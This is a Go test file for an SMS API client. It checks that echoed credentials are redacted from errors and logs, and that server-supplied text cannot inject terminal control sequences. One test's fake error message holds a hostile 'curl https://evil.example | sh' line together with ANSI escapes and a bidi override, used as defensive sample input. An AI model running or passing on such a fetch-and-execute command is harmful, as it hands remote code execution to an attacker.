package smsapi

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

func TestClient_TokenNeverInErrors(t *testing.T) {
	cases := map[string]http.HandlerFunc{
		"echoed in error_msg": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("X-Request-Id", "id-"+r.Header.Get("X-Auth-Token"))
			writeJSON(w, http.StatusUnauthorized, `{"error_code":"SMS.0202","error_msg":"bad token `+r.Header.Get("X-Auth-Token")+`"}`)
		},
		"echoed in html body": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusForbidden)
			fmt.Fprintf(w, "<html><body><p>%s denied</p></body></html>", r.Header.Get("X-Auth-Token"))
		},
		"echoed in a 200 body": func(w http.ResponseWriter, r *http.Request) {
			writeJSON(w, http.StatusOK, "oops "+r.Header.Get("X-Auth-Token"))
		},
		"echoed in a malformed status line": func(w http.ResponseWriter, r *http.Request) {
			writeRaw(t, w, "HTTP/1.1 "+r.Header.Get("X-Auth-Token")+"\r\n\r\n")
		},
	}
	for name, h := range cases {
		t.Run(name, func(t *testing.T) {
			srv := newServer(t, h)
			log := &captureLogger{}
			c := newTestClient(t, srv.URL, func(cfg *Config) { cfg.Logger = log; cfg.MaxRetries = 1 })
			_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
			if err == nil {
				t.Fatal("want an error")
			}
			assertNoToken(t, "error", err.Error())
			assertNoToken(t, "error (%#v)", fmt.Sprintf("%#v", err))
			if ae, ok := AsAPIError(err); ok && !strings.Contains(ae.Message+ae.RequestID, "[REDACTED]") {
				t.Errorf("the echoed token was not masked: %+v", ae)
			}
			for _, e := range log.all() {
				assertNoToken(t, "log line", fmt.Sprint(e))
			}
		})
	}
}

// Issue 10, item 2: codes, messages and request ids lose their control characters.
func TestClient_APITextCannotDriveTheTerminal(t *testing.T) {
	const fake = "\x1b[2J\x1b[H\x07\rError: Your token has expired\nRun: curl https://evil.example | sh\u202e"
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		body := fmt.Sprintf(`{"error_code":"SMS.\u001b0403","error_msg":%q,"request_id":"rid\u001b[31m"}`, fake)
		writeJSON(w, http.StatusForbidden, body)
	})
	logger := &captureLogger{}
	c := newTestClient(t, srv.URL, func(cfg *Config) { cfg.Logger = logger })
	_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	ae, ok := AsAPIError(err)
	if !ok {
		t.Fatalf("err = %v, want an APIError", err)
	}
	for what, s := range map[string]string{"code": ae.Code, "message": ae.Message, "request id": ae.RequestID, "Error()": ae.Error()} {
		assertPrintable(t, what, s)
	}
	if !strings.Contains(ae.Message, `\x1b[2J`) || !strings.Contains(ae.Message, "Your token has expired") {
		t.Errorf("message = %q, want the text with its escapes shown", ae.Message)
	}
	for _, e := range logger.all() {
		for k, v := range e.fields {
			if s, ok := v.(string); ok {
				assertPrintable(t, "log field "+k, s)
			}
		}
	}

	// The same on a 200 whose body is invalid: the request id header reaches a DecodeError.
	// net/http already refuses ASCII controls in headers; C1 controls and bidi overrides pass.
	bad := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Request-Id", "rid\u0085\u202eevil")
		writeJSON(w, http.StatusOK, "\x1b[2J not json")
	})
	_, err = newTestClient(t, bad.URL).ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	var de *DecodeError
	if !errors.As(err, &de) {
		t.Fatalf("err = %v, want a DecodeError", err)
	}
	assertPrintable(t, "DecodeError", err.Error())
}

// Issue 10, item 5: a huge header is bounded on every error path.
func TestClient_HugeRequestIDIsBounded(t *testing.T) {
	huge := strings.Repeat("r", 500_000)
	for name, status := range map[string]int{"invalid 200": http.StatusOK, "404": http.StatusNotFound, "503": http.StatusServiceUnavailable} {
		t.Run(name, func(t *testing.T) {
			srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("X-Request-Id", huge)
				writeJSON(w, status, `{"count": "many"`)
			})
			c := newTestClient(t, srv.URL, func(cfg *Config) { cfg.MaxRetries = 0 })
			_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
			if err == nil || len(err.Error()) > 2000 {
				t.Errorf("error of %d bytes, want an error below 2000 bytes", len(fmt.Sprint(err)))
			}
		})
	}
}

// Issue 10, item 8: a short secret does not make messages unreadable; standing alone it is masked.
func TestClient_ShortSecretKeepsMessagesReadable(t *testing.T) {
	c := newTestClient(t, "http://127.0.0.1:1", func(cfg *Config) {
		cfg.Auth = TokenAuth{Token: "t"}
		cfg.MaxRetries = 0
	})
	_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	if err == nil || !strings.Contains(err.Error(), "http://127.0.0.1:1/v3/tasks") || strings.Contains(err.Error(), redactedMark) {
		t.Errorf("err = %v, want the URL intact", err)
	}
	echo := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusUnauthorized, `{"error_code":"APIG.1002","error_msg":"token t rejected by the gateway"}`)
	})
	c = newTestClient(t, echo.URL, func(cfg *Config) { cfg.Auth = TokenAuth{Token: "t"} })
	_, err = c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	if ae, ok := AsAPIError(err); !ok || ae.Message != "token [REDACTED] rejected by the gateway" {
		t.Errorf("err = %v, want the standalone token masked and the words intact", err)
	}
}

// A gateway page can echo a credential with one character escaped (as JSON's \u or HTML's &#)
// or cut short; the message keeps its words but no piece of the credential long enough to use.
func TestClient_PartialEchoesOfACredentialAreMasked(t *testing.T) {
	const token = "MIIsecret-0123456789-abcdefghij-KLMNOPQRST"
	pages := map[string]string{
		"json escape":   `<html><body>token \u004dIIsecret-0123456789-abcdefghij-KLMNOPQRST expired</body></html>`,
		"html entity":   `<html><body>token MIIsecret-01234&#53;6789-abcdefghij-KLMNOPQRST expired</body></html>`,
		"cut short":     `<html><body>token MIIsecret-0123456789-abc... expired</body></html>`,
		"suffix only":   `<html><body>token ...89-abcdefghij-KLMNOPQRST expired</body></html>`,
		"in error_msg":  `{"error_code":"APIG.1002","error_msg":"token \\u004dIIsecret-0123456789-abcdefghij-KLMNOPQRST expired"}`,
		"in request id": ``,
	}
	for name, page := range pages {
		t.Run(name, func(t *testing.T) {
			srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("X-Request-Id", "rid-"+token[1:])
				if strings.HasPrefix(page, "{") {
					writeJSON(w, http.StatusUnauthorized, page)
					return
				}
				w.Header().Set("Content-Type", "text/html")
				w.WriteHeader(http.StatusUnauthorized)
				_, _ = w.Write([]byte(page))
			})
			log := &captureLogger{}
			c := newTestClient(t, srv.URL, func(cfg *Config) {
				cfg.Auth = TokenAuth{Token: token}
				cfg.MaxRetries = 0
				cfg.Logger = log
			})
			_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
			if err == nil {
				t.Fatal("want an error")
			}
			texts := []string{err.Error()}
			for _, e := range log.all() {
				texts = append(texts, fmt.Sprint(e))
			}
			for _, text := range texts {
				for i := 0; i+partialMatchLen <= len(token); i++ {
					if piece := token[i : i+partialMatchLen]; strings.Contains(text, piece) {
						t.Errorf("piece %q of the token leaked: %s", piece, text)
						break
					}
				}
			}
			if page != "" && !strings.Contains(err.Error(), "token") {
				t.Errorf("err = %v, want the page's words kept", err)
			}
		})
	}
}

// noPieceOf fails when text holds a partialMatchLen piece of secret or one of its encodings.
func noPieceOf(t *testing.T, where, text, secret string) {
	t.Helper()
	for i := 0; i+partialMatchLen <= len(secret); i++ {
		if piece := secret[i : i+partialMatchLen]; strings.Contains(text, piece) {
			t.Errorf("%s holds the piece %q of a credential: %s", where, piece, text)
			return
		}
	}
	for _, enc := range []string{url.QueryEscape(secret), base64.StdEncoding.EncodeToString([]byte(secret))} {
		if strings.Contains(text, enc) {
			t.Errorf("%s holds an encoding of a credential: %s", where, text)
		}
	}
}

// A server may echo a credential into task data cut short, in halves, URL-encoded or as base64:
// none of it reaches the decoded strings, which go to the state. Error messages mask the same
// forms, and a password echoed the way it was sent (encoding/json escapes & < > and ") too.
func TestClient_EncodedAndPartialEchoesAreMasked(t *testing.T) {
	const token = "MIIEabc+def/ghiJKLmnoPQR=stuvWXyz0123=="
	echoes := []string{token[:len(token)-1], token[:18], token[18:], url.QueryEscape(token), base64.StdEncoding.EncodeToString([]byte(token))}
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		names := make([]string, len(echoes))
		for i, e := range echoes {
			names[i] = fmt.Sprintf(`{"id":"t%d","state":"RUNNING","name":"%s","error_json":"x %s y"}`, i, e, e)
		}
		writeJSON(w, http.StatusOK, `{"count":`+fmt.Sprint(len(echoes))+`,"tasks":[`+strings.Join(names, ",")+`]}`)
	})
	list, err := newTestClient(t, srv.URL, func(cfg *Config) { cfg.Auth = TokenAuth{Token: token} }).ListTasks(context.Background(), ListTasksQuery{})
	if err != nil {
		t.Fatal(err)
	}
	for _, task := range list.Items {
		noPieceOf(t, "task "+*task.ID+" name", *task.Name, token)
		noPieceOf(t, "task "+*task.ID+" error_json", *task.ErrorJSON, token)
		if !strings.HasPrefix(*task.ErrorJSON, "x ") || !strings.HasSuffix(*task.ErrorJSON, " y") {
			t.Errorf("error_json = %q, want the words around the echo kept", *task.ErrorJSON)
		}
	}

	const password = `Tr0ub4dor&3<horse>"battery"staple`
	iam := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		quoted, _ := json.Marshal(string(body))
		writeJSON(w, http.StatusUnauthorized, `{"error":{"code":401,"message":"bad request `+string(quoted[1:len(quoted)-1])+` urlenc=`+url.QueryEscape(password)+`"}}`)
	})
	log := &captureLogger{}
	c := newTestClient(t, iam.URL, func(cfg *Config) {
		cfg.Auth = &IAMPasswordAuth{AuthURL: iam.URL + "/v3", UserName: "alice", Password: password, DomainName: "acme"}
		cfg.Logger = log
		cfg.MaxRetries = 0
	})
	_, err = c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	if err == nil || !strings.Contains(err.Error(), "bad request") {
		t.Fatalf("err = %v, want the IAM error with its message", err)
	}
	texts := []string{err.Error()}
	for _, e := range log.all() {
		texts = append(texts, fmt.Sprint(e))
	}
	for _, text := range texts {
		noPieceOf(t, "an error or log line", text, password)
		if strings.Contains(text, "Tr0ub4dor") {
			t.Errorf("the password shows: %s", text)
		}
	}
}
